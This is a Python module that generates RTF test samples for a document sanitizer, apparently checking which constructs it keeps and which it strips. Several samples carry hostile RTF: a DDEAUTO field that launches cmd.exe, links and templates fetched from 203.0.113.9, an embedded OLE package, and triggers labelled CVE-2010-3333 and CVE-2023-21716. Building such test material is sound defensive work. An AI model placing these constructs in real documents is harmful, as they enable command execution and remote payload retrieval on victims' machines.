"""RTF as word processors and attackers write it."""
import struct

import metafilemaker as meta
from sample import Sample, sibling

FONTS = (rb"{\fonttbl{\f0\froman\fcharset128 MS Mincho;}{\f1\fswiss\fcharset0 Arial;}"
         rb"{\f2\fswiss\fcharset204 Arial Cyr;}}")
COLORS = rb"{\colortbl;\red255\green0\blue0;\red0\green0\blue255;}"


def codes(text, charset="cp932"):
    return b"".join(b"\\'%02x" % byte for byte in text.encode(charset))


def document(body, head=b""):
    return (rb"{\rtf1\uc1\ansi\ansicpg932\deff0" + FONTS + COLORS + head +
            rb"\pard\plain\f0\fs21 " + body + b"}\n")


def loses(name, body, kinds, note, head=b"", **more):
    return Sample(name, document(body, head), note=note,
                  removals=[kind if "." in kind or kind == "metadata" else "rtf." + kind for kind in kinds], **more)


def keeps(name, body, note, head=b""):
    return Sample(name, document(body, head), verdict="unchanged", note=note)


def field(instruction, result=b"result"):
    return rb"{\field{\*\fldinst {" + instruction + rb"}}{\fldrslt {" + result + rb"}}}"


def picture(kind, data, words=rb"\picwgoal600\pichgoal400"):
    return rb"{\pict" + words + b"\\" + kind + b"\n" + data.hex().encode() + b"}"


def bitmap():
    """4 x 2 pixels of 24 bits, without the header of a file."""
    return struct.pack("<IiiHHIIiiII", 40, 4, 2, 1, 24, 0, 24, 0, 0, 0, 0) + bytes(range(24))


TABLE = (rb"\trowd\trgaph108\cellx3000\cellx6000\intbl " + codes("品目") + rb"\cell " + codes("数量") +
         rb"\cell\row\trowd\trgaph108\cellx3000\cellx6000\intbl A\cell 12\cell\row\pard ")
LISTS = (rb"{\*\listtable{\list\listtemplateid1{\listlevel\levelnfc0\levelstartat1\levelfollow0"
         rb"{\leveltext\'02\'00.;}{\levelnumbers\'01;}\fi-360\li720}{\listname ;}\listid7}}"
         rb"{\*\listoverridetable{\listoverride\listid7\listoverridecount0\ls1}}")
SHAPE = (rb"{\shp{\*\shpinst\shpleft0\shptop0\shpright900\shpbottom600\shpwr3"
         rb"{\sp{\sn shapeType}{\sv 202}}{\sp{\sn fillColor}{\sv 255}}%s"
         rb"{\shptxt \pard " + codes("枠の中") + rb"\par}}}")


def harmless():
    yield keeps("plain.rtf", codes("入札公告") + rb"\par\b bold\b0  \i italic\i0\par\cf1 red\par ", "text and properties")
    yield keeps("unicode.rtf", rb"\u20837?\u26413?\u-10179?\u-8704? \u8364?\par", "Unicode, also by pairs")
    yield keeps("table.rtf", TABLE + rb"\par", "a table")
    yield keeps("list.rtf", rb"{\listtext 1.\tab}\ls1\ilvl0 " + codes("項目") + rb"\par", "a list", head=LISTS)
    yield keeps("styles.rtf", rb"\s1 heading\par{\cs10 x}", "styles",
                head=rb"{\stylesheet{\snext0 Normal;}{\s1\sbasedon0\b heading 1;}{\*\cs10 \additive Font;}}")
    yield keeps("notes.rtf", rb"text{\super\chftn}{\footnote\pard\chftn  " + codes("注") +
                rb"}{\header\pard head\par}{\footer\pard{\field{\*\fldinst PAGE }{\fldrslt 1}}\par}"
                rb"{\*\bkmkstart a}b{\*\bkmkend a}{\*\atnid R}{\*\atnauthor Rin}\chatn{\*\annotation \pard note}\par",
                "footnote, header, bookmark, comment")
    yield keeps("fields.rtf", field(rb'HYPERLINK "https://www.example.jp/a?b=1"', codes("資料")) + field(b"PAGE") +
                field(rb'TOC \\o "1-3"') + field(b'SEQ ' + codes("図") + rb" \\* ARABIC", b"1"), "fields that stay")
    yield keeps("formula.rtf", rb"{\mmath{\*\moMath{\mf{\mfPr{\mtype bar}}{\mnum{\mr x}}{\mden{\mr y}}}}}", "a formula")
    yield keeps("revisions.rtf", rb"{\revised\revauth1\revdttm1 new}{\deleted\revauthdel1 old}",
                "tracked changes", head=rb"{\*\revtbl{Unknown;}{Rin;}}")


def charsets():
    yield keeps("fallback.rtf", rb"\uc2\u20837\'93\'fc\u26413\'8e\'44\uc1 \u8364\'80.\uc0\u8364 .", "units of fallback: none, one, two")
    yield keeps("fallback-words.rtf", rb"\uc1\u8364\tab x\u8364{y}", "a word is a unit; a group ends them")
    yield keeps("trail.rtf", codes("表示ソ予十") + rb"\par", "second halves that are a backslash or a brace")
    yield keeps("raw.rtf", "入札".encode("cp932") + rb"\par", "eight bits as they stand")
    yield keeps("cyrillic.rtf", rb"\f2 " + codes("Привет", "cp1251") + rb"\par", "another code page by the font")


def fields():
    bad = {"dde": rb'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', "link": rb'LINK Word.Document.8 "\\\\\\\\203.0.113.9\\\\a.doc"',
           "includepicture": rb'INCLUDEPICTURE "http://203.0.113.9/a.png" \\\\d', "includetext": b'INCLUDETEXT "a.doc"',
           "quote": b"QUOTE 68 68 69", "macrobutton": b"MACROBUTTON run click", "import": b"IMPORT a.wmf",
           "file-link": rb'HYPERLINK "file:///c:/a.exe"', "unc-link": rb'HYPERLINK "\\\\\\\\203.0.113.9\\\\a"',
           "script-link": b'HYPERLINK "javascript:x"', "autotext": b"AUTOTEXT x", "coded": rb"\'44\'44\'45 a b"}
    for name, instruction in bad.items():
        yield loses(f"field-{name}.rtf", field(instruction), ["field"], name, demo=name == "dde")
    yield loses("field-split.rtf", rb"{\field{\*\fldinst {\b DDE}{\i AUTO }a b}{\fldrslt x}}", ["field"], "over several groups")
    yield loses("field-nested.rtf", rb"{\field{\*\fldinst HYPERLINK {\field{\*\fldinst QUOTE 1}{\fldrslt 2}}}{\fldrslt x}}",
                ["field"], "a field in an instruction")
    yield loses("field-result.rtf", field(b"DDE a b", rb"{\field{\*\fldinst DDE c d}{\fldrslt in}}"), ["field"], "a field in a result")
    yield Sample("field-backwards.rtf", document(rb"{\field{\fldrslt x}{\*\fldinst DDE a b}}"), removals=["rtf.field"],
                 note="result first")
    yield loses("form.rtf", rb"{\field{\*\fldinst FORMTEXT {\*\formfield{\fftype0{\*\ffname a}{\*\ffdeftext b}"
                rb"{\*\ffentrymcr Run}{\*\ffexitmcr Run}}}{\*\datafield 00ff}}{\fldrslt x}}", ["macro", "field_data"],
                "a form field with macros")


def objects():
    data = b"d0cf11e0a1b11ae1" + b"00" * 64
    result = rb"{\result{\pict\wmetafile8 0100}}"
    yield loses("object.rtf", rb"{\object\objemb\objw10\objh10{\*\objclass Package}{\*\objdata 0105" + data + b"}" + result + b"}",
                ["object", "nested.blocked"], "an embedded object", demo=True)
    yield loses("object-update.rtf", rb"{\object\objautlink\objupdate{\*\objclass Equation.3}{\*\objdata " + data + rb"}{\result text}}",
                ["object"], "updates itself, the equation editor")
    yield loses("object-obfuscated.rtf", rb"{\object\objemb{\*\objdata 01{\*\foo bar}05\'11\bin3 abc" + data[:9] + rb"{\rtf1}\tab" +
                data[9:] + b"}}", ["object"], "digits taken apart")
    yield loses("object-nowhere.rtf", rb"{\*\objdata " + data + b"}x", ["object"], "data without an object")
    yield loses("object-in-the-middle.rtf", rb"{\b x\*\objdata " + data + b"}y", ["object"], "behind other words")
    yield loses("binary.rtf", rb"a\bin8 {\rtf1}}b", ["binary"], "braces in binary data are none")


def pictures():
    png = sibling("png", "plain.png")
    jpeg = sibling("jpeg", "plain.jpg")
    yield keeps("picture-png.rtf", picture(b"pngblip", png) + rb"\par", "PNG")
    yield keeps("picture-jpeg.rtf", picture(b"jpegblip", jpeg), "JPEG")
    yield keeps("picture-binary.rtf", rb"{\pict\pngblip\bin%d " % len(png) + png + b"}", "PNG as it stands")
    yield keeps("picture-bitmap.rtf", picture(b"dibitmap0", bitmap()), "a bitmap becomes PNG")
    yield keeps("picture-emf.rtf", picture(b"emfblip", meta.EMF), "an enhanced metafile")
    yield keeps("picture-wmf.rtf", picture(b"wmetafile8", meta.wmf(*meta.WMF_LINES)), "a metafile")
    yield loses("picture-comment.rtf", picture(b"emfblip", meta.EMF_DUAL), ["picture.metafile"], "GDI+ in a comment")
    yield loses("picture-escape.rtf", picture(b"wmetafile8", meta.WMF_DRIVER), ["picture.metafile"],
                "an escape that names a procedure")
    yield loses("picture-beyond.rtf", picture(b"emfblip", meta.EMF_BAD["beyond"][0]), ["nested.blocked"],
                "a record that leads behind the end")
    yield loses("picture-metafile.rtf", picture(b"wmetafile8", bytes.fromhex("010009000003") + bytes(20)), ["nested.blocked"],
                "a metafile leaves its place")
    yield loses("picture-pair.rtf", rb"{\*\shppict" + picture(b"pngblip", png) + rb"}{\nonshppict" +
                picture(b"wmetafile8", bytes(24)) + b"}", ["fallback"], "two of the same")
    yield loses("picture-exif.rtf", picture(b"jpegblip", sibling("jpeg", "現場写真.jpg")), ["picture.exif", "picture.gps", "picture.thumbnail"], "a position within")


def shapes():
    png = sibling("png", "plain.png")
    yield keeps("shape.rtf", SHAPE % rb"{\sp{\sn wzDescription}{\sv alt}}", "a text box")
    yield keeps("shape-picture.rtf", SHAPE % (rb"{\sp{\sn pib}{\sv " + picture(b"pngblip", png) + b"}}"), "a floating picture")
    yield loses("shape-fragments.rtf", SHAPE % rb"{\sp{\sn pFragments}{\sv 1;1;01234567}}", ["shape_property"], "CVE-2010-3333")
    yield loses("shape-link.rtf", SHAPE % rb"{\sp{\sn pihlShape}{\sv {\*\hl{\hlloc a}{\hlsrc http://203.0.113.9/}}}}",
                ["shape_property"], "a link of a shape")
    yield loses("shape-linked-picture.rtf", SHAPE % rb"{\sp{\sn pibName}{\sv http://203.0.113.9/a.png}}", ["shape_property"],
                "a picture from elsewhere")
    yield loses("shape-text-number.rtf", SHAPE % rb"{\sp{\sn fillType}{\sv 1;2}}", ["shape_property"], "a number that is none")


def destinations():
    gone = {"template": (b"template http://203.0.113.9/a.dotm", "template"), "datastore": (b"datastore 0105", "custom_data"),
            "mailmerge": (rb"mailmerge{\mmdatasource x}", "mail_merge"), "docvar": (rb"docvar {a}{b}", "document_variable"),
            "userprops": (rb"userprops {\propname a}{\staticval b}", "metadata"), "generator": (b"generator x;", "metadata"),
            "xform": (b"xform a.xsl", "transform"), "filetbl": (rb"filetbl{\file\fid1 a.rtf}", "subdocument"),
            "htmltag": (b"htmltag64 <script>", "html"), "unknown": (b"unknownword 1234", "destination"),
            "themedata": (b"themedata 504b0304", "destination"), "nothing": (b"", "destination")}
    for name, (content, kind) in gone.items():
        yield loses(f"{name}.rtf", rb"x{\*\%s}y" % content if content else rb"x{\*}{\* }y{\*{a}}z", [kind], name)
    yield loses("info.rtf", b"x", ["metadata"], "author and title", head=rb"{\info{\title t}{\author Rin}{\creatim\yr2026}}")
    yield loses("fonts-embedded.rtf", b"x", ["font"], "an embedded font",
                head=rb"{\fonttbl{\f9\fnil{\*\fontemb\ftruetype 00010000}Own;}}")
    yield loses("fonts-many.rtf", b"x", ["font"], "more fonts than a reader has room for",
                head=rb"{\fonttbl" + b"".join(rb"{\f%d A;}" % (i % 32000) for i in range(5000)) + b"}")
    yield loses("font-number.rtf", rb"\f99999 x", ["word"], "CVE-2023-21716", head=rb"{\fonttbl{\f40000 A;}}")
    yield loses("words.rtf", rb"a\pxe b\linkself\objupdate c\b99999999999 d", ["word"], "words that are not known or overflow")
    yield loses("controls.rtf", b"a\x01b\\'02c\x7f", ["text.control"], "control characters")
    yield loses("words-and-digits.rtf", rb"\fs21{\*\unknown x}{}44 \b{\pxe}7", ["destination", "word"],
                "a number is not continued by the text behind what goes")


def heads():
    yield Sample("short.rtf", rb"{\rt1\ansi a}", verdict="unchanged", note="no f")
    yield Sample("blanks.rtf", b" \t\r\n" + document(b"a"), removals=["rtf.outside"], note="white space in front")
    yield Sample("trailing.rtf", document(b"a") + b"PKxx<script>", removals=["rtf.outside"], note="data behind the end")
    yield Sample("cut.rtf", document(b"a" * 90)[:-60], verdict="blocked", reason="malformed.truncated", note="cut off")
    yield Sample("cut-binary.rtf", document(rb"\bin999999 x"), verdict="blocked", reason="malformed.truncated", note="binary data beyond the end")
    yield Sample("deep.rtf", document(b"{" * 200000 + b"}" * 200000), verdict="blocked", reason="limit.depth", note="200,000 deep")
    yield Sample("deep-gone.rtf", document(rb"{\*\unknown" + b"{" * 200000 + b"}" * 200000 + b"}x"), removals=["rtf.destination"],
                 note="the same in what goes")
    yield Sample("renamed.doc", document(b"a"), removals=["type.renamed"], output="renamed.rtf", note="RTF under Word's name")


def samples():
    for part in (harmless, charsets, fields, objects, pictures, shapes, destinations, heads):
        yield from part()
